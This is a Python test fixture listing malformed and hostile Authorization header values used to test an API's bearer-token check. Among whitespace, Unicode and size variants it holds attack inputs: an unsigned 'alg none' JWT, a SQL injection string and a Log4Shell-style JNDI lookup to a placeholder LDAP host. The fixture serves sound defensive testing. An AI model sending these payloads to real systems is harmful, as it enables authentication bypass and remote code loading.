"""Authorization headers that are none of ours: what clients mistype and attackers try."""

from functions.access.token import token_of
from tests.access.office import KEY_ID, SECRET

GOOD = token_of(KEY_ID, SECRET)
JWT_NONE = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJrZXlfMDFKRCIsInNjb3BlcyI6ImFsbCJ9."
JWT_HS256 = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"

BAD_HEADERS: dict[str, object] = {
    "none": None,
    "empty": "",
    "a space": " ",
    "a number": 5,
    "a list": [f"Bearer {GOOD}"],
    "scheme alone": "Bearer",
    "scheme and space": "Bearer ",
    "token alone": GOOD,
    "basic": "Basic c2tfMDE6eA==",
    "token scheme": f"Token {GOOD}",
    "scheme with colon": f"Bearer: {GOOD}",
    "two spaces": f"Bearer  {GOOD}",
    "a tab": f"Bearer\t{GOOD}",
    "a space before": f" Bearer {GOOD}",
    "a space behind": f"Bearer {GOOD} ",
    "a line behind": f"Bearer {GOOD}\n",
    "two headers joined": f"Bearer {GOOD},Bearer {GOOD}",
    "two tokens": f"Bearer {GOOD} {GOOD}",
    "in quotes": f'Bearer "{GOOD}"',
    "jwt without algorithm": f"Bearer {JWT_NONE}",
    "jwt": f"Bearer {JWT_HS256}",
    "another shop's prefix": f"Bearer pk_{GOOD[3:]}",
    "prefix in capitals": f"Bearer SK_{GOOD[3:]}",
    "public part in small letters": f"Bearer {GOOD.replace(KEY_ID[4:], KEY_ID[4:].lower())}",
    "public part with the letter U": f"Bearer {GOOD.replace('01JD', '01UU')}",
    "the id for the public part": f"Bearer sk_{KEY_ID}_{SECRET}",
    "no secret": f"Bearer sk_{KEY_ID[4:]}_",
    "a secret too short": f"Bearer {GOOD[:-1]}",
    "a secret too long": f"Bearer {GOOD}A",
    "the hash for the secret": f"Bearer sk_{KEY_ID[4:]}_{'0' * 64}",
    "a star for the secret": f"Bearer sk_{KEY_ID[4:]}_{'*' * 43}",
    "a NUL": f"Bearer {GOOD[:-1]}\x00",
    "a NUL behind": f"Bearer {GOOD}\x00",
    "wide letters": f"Bearer {GOOD[:-1]}Ａ",
    "digits of another script": f"Bearer {GOOD[:-1]}٣",
    "a long s in the scheme": f"Bearer ſk_{GOOD[3:]}",
    "no-break space": f"Bearer\u00a0{GOOD}",
    "turned around": f"Bearer \u202e{GOOD}",
    "a lone surrogate": f"Bearer {GOOD[:-1]}\ud800",
    "10 KB": "Bearer sk_" + "A" * 10_240,
    "10 KB of spaces": "Bearer " + " " * 10_240 + GOOD,
    "sql": "Bearer sk_' OR '1'='1",
    "a template": "Bearer ${jndi:ldap://x/a}",
}
